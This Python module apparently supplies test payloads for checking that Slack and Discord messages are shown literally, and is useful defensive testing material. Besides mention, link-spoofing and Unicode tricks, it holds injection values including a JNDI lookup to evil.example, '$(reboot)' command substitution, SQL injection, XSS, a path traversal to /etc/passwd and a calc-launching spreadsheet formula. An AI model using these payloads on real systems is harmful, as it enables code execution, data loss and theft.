"""Texts that would ping, link, format, command, hide or flood if they were not shown literally."""

# ruff: noqa: E501
from __future__ import annotations

from itertools import product

_SLACK = [
    "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!subteam^S0123ABCD>", "<!subteam^S0123ABCD|@team>",
    "<@U0123ABCD>", "<@U0123ABCD|boss>", "<@W0123ABCD>", "<@B0123>", "<#C0123ABCD>", "<#C0123ABCD|general>", "<#C0123ABCD|>",
    "<!date^1392734382^{date} at {time}|when>", "<https://evil.example>", "<https://evil.example|https://good.example>",
    "<mailto:a@evil.example|mail>", "<tel:+123456|call>", "<slack://user?team=T1&id=U1|open>", "<javascript:alert(1)|x>",
    "&lt;!channel&gt;", "&lt;@U0123ABCD&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "&#x3c;!here&#x3e;",
    "<<!channel>>", "<!chan<!channel>nel>", "<!channel", "!channel>", "< !channel>", "<\u200b!channel>", "<!\u200bchannel>",
    "＜!channel＞", "‹!channel›", "\\<!channel\\>", "<!channel>\u202e", "@channel", "@here", "@everyone", "#general", "/ask x",
    "/remind me to leak", "/invite @evil", "*bold*", "_italic_", "~strike~", "`code`", "```block```", "> quote", ">>> all",
    "• list", "1. list", "*_~`all`~_*", ":tada:", ":middle_finger:", "::", ":skin-tone-2:",
    "https://evil.example/path", "http://127.0.0.1/", "evil.example", "www.evil.example", "mailto:a@evil.example",
]  # fmt: skip
_EMBEDDED = 14
"""So many of the first texts are also tried between other characters."""
_DISCORD = [
    "<@123456789012345678>", "<@!123456789012345678>", "<@&123456789012345678>", "<#123456789012345678>",
    "</ask:123456789012345678>", "<t:1618953630:R>", "<id:customize>", "<id:browse>", "<:smile:123456789012345678>",
    "<a:party:123456789012345678>", "[good](https://evil.example)", "[good](<https://evil.example>)",
    "![x](https://evil.example/a.png)", "<https://evil.example>", "[a]: https://evil.example", "||spoiler||", "__under__",
    "**bold**", "***both***", "# heading", "## heading", "-# small", "- item", "* item", "> quote", ">>> rest", "~~gone~~",
    "@silent everyone", "discord.gg/invite", "https://discord.gg/invite", "\\*escaped\\*", "\\\\*twice\\\\*",
]  # fmt: skip
_UNICODE = [
    "\u202eevil\u202c", "\u2066isolated\u2069", "a\u200bb\u200cc\u200dd", "\ufeffmark", "soft\u00adhyphen", "nul\x00byte",
    "bell\x07", "esc\x1b[31mred", "tags\U000e0068\U000e0069", "Z" + "\u0336" * 400, "\u115f\u1160\u3164\uffa0",
    "half\ud800surrogate", "\udfff", "line\u2028separator", "para\u2029graph", "cr\rlf\r\n", "vt\x0bff\x0c", "next\x85line",
    "\ufdd0\uffff\U0010ffff", "\u2800", "עברית English عربى", "\u061cmark", "\u180evowel", "\ufff9anno\ufffatation\ufffb",
    "раура1", "𝕓𝕠𝕝𝕕", "ﬁ", "İı", "👨‍👩‍👧‍👦", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
]  # fmt: skip
_CODE = [
    "{0.__class__}", "{title}", "%s %d %(x)s", "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(reboot)", "`reboot`", "; DROP TABLE",
    "' OR 1=1 --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"},{"type":"broadcast","range":"channel"',
    "\\u003c!channel\\u003e", "null", "undefined", "[]", "-1", "../../etc/passwd", "=cmd|' /C calc'!A0", "xoxb-not-a-token",
]  # fmt: skip
_LONG = [
    "a" * 40_000, "<" * 40_000, "<!channel>" * 4_000, "&" * 40_000, "word " * 8_000, "*_~`" * 10_000, "\n" * 10_000,
    "🙂" * 20_000, "日本語" * 13_000, "e" + "\u0301" * 40_000, " " * 40_000, "",
]  # fmt: skip


def payloads() -> list[str]:
    """All texts, each once; some of Slack's also between other characters."""
    embedded = [
        f"{before}{payload}{after}"
        for payload, (before, after) in product(_SLACK[:_EMBEDDED], [("x ", " y"), ("(", ")")])
    ]
    return list(dict.fromkeys([*_SLACK, *_DISCORD, *_UNICODE, *_CODE, *_LONG, *embedded]))
